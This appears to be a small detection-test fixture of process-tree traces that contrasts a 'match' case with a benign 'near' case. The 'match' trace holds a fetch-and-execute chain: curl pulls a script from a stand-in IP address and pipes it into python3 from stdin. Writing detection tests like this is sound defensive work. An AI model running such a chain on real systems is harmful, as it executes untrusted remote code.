match
10 fork 11
11 exec /usr/bin/bash bash -c x
11 fork 12
12 exec /usr/bin/curl curl -s http://203.0.113.5/i
11 fork 13
13 exec /usr/bin/python3.11 python3 -
near
10 fork 11
11 exec /usr/bin/bash bash -c x
11 fork 12
12 exec /usr/bin/curl curl -s http://203.0.113.5/i
11 fork 13
13 exec /usr/bin/python3.11 python3 -m~json.tool
wait 6
11 fork 14
14 exec /usr/bin/dash sh
